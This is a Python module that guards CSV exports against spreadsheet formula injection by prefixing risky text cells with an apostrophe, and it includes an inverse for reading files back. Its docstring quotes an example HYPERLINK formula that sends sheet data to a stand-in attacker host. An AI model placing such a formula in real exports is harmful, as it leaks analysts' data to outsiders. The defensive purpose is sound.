"""CSV cells a spreadsheet will not run: the one guard for every CSV we write.

A spreadsheet opening a CSV treats a cell that begins with ``=``, ``+``,
``-`` or ``@`` as a formula, and Excel also acts on a leading tab or
carriage return (it drops them and then reads the rest, so ``\\t=1+1`` still
runs). A comment typed as ``=HYPERLINK("https://evil.example?d="&A2, "Click")``
would then send other cells of the analyst's sheet to a stranger. Every text
cell that could start such a formula is therefore written with a leading
apostrophe, which spreadsheets read as "this cell is text" (OWASP's advice
for CSV injection).

The rule is a bijection, so our own readers get the exact text back
(:func:`unguard`): a cell is prefixed when, after any leading apostrophes,
it begins with one of :data:`TRIGGERS`; reading removes one apostrophe from
exactly those cells. A cell that already began with ``'`` followed by a
trigger gains one more, so ``'=x`` survives the round trip too, while
everyday text such as ``'tis`` is written as it is.

Numbers are never touched: only ``str`` values are guarded, so an estimate
of -12 written from a numeric column stays ``-12``. Callers must pass numbers
as numbers (or keep numeric columns numeric in a DataFrame).

This lives in ``analysis`` (which never imports the app) so that the app's
exports, downloads and commands and the analysis command line share it.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

import pandas as pd

__all__ = ["TRIGGERS", "guard", "unguard", "guard_row", "guard_frame", "unguard_frame",
           "writer", "to_csv"]

#: First characters that make a spreadsheet read a cell as a formula or an
#: instruction: the four formula starters, tab and carriage return.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _needs_guard(text: str) -> bool:
    rest = text.lstrip("'")
    return bool(rest) and rest[0] in TRIGGERS


def guard(value: Any) -> Any:
    """``value`` as a safe cell: text that could run gets a leading ``'``.

    Anything that is not ``str`` (numbers, ``None``, NaN) is returned as it is.

    >>> guard("=1+1"), guard("\\t=1+1"), guard("-x"), guard(-12), guard("fine")
    ("'=1+1", "'\\t=1+1", "'-x", -12, 'fine')
    """
    if isinstance(value, str) and _needs_guard(value):
        return "'" + value
    return value


def unguard(value: Any) -> Any:
    """The text :func:`guard` was given: the inverse, for reading our files back.

    >>> unguard("'=1+1"), unguard("'tis"), unguard("''=x")
    ('=1+1', "'tis", "'=x")
    """
    if isinstance(value, str) and value.startswith("'") and _needs_guard(value[1:]):
        return value[1:]
    return value


def guard_row(cells: Iterable[Any]) -> list[Any]:
    """Every text cell of a row guarded; numbers left as numbers.

    >>> guard_row(["@a", -12, 4.5, None, "ok"])
    ["'@a", -12, 4.5, None, 'ok']
    """
    return [guard(cell) for cell in cells]


def guard_frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells are guarded (numeric columns untouched).

    Column names are guarded too: a header is a cell like any other.

    >>> guard_frame(pd.DataFrame({"text": ["+1", "x"], "estimate": [-12, 3]}))
      text  estimate
    0  '+1       -12
    1    x         3
    """
    out = table.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_bool_dtype(out[column])):
            out[column] = out[column].map(guard, na_action="ignore")
    out.columns = [guard(c) for c in out.columns]
    return out


def unguard_frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` read from a guarded CSV, with the original text back.

    >>> unguard_frame(pd.DataFrame({"text": ["'+1", "x"]}))["text"].tolist()
    ['+1', 'x']
    """
    out = table.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]):
            out[column] = out[column].map(unguard, na_action="ignore")
    out.columns = [unguard(c) for c in out.columns]
    return out


class GuardedWriter:
    """A :func:`csv.writer` whose rows are guarded before they are written."""

    def __init__(self, handle: IO[str], **kwargs):
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(guard_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle: IO[str], **kwargs) -> GuardedWriter:
    """``csv.writer(handle, **kwargs)`` with every text cell guarded.

    >>> import io
    >>> out = io.StringIO()
    >>> writer(out, lineterminator="\\n").writerow(["=HYPERLINK(1)", -12])
    >>> out.getvalue()
    "'=HYPERLINK(1),-12\\n"
    """
    return GuardedWriter(handle, **kwargs)


def to_csv(table: pd.DataFrame, **kwargs) -> str:
    """``table.to_csv(**kwargs)`` with its text cells guarded.

    >>> to_csv(pd.DataFrame({"text": ["-x"], "n": [-12]}), index=False)
    "text,n\\n'-x,-12\\n"
    """
    return guard_frame(table).to_csv(**kwargs)
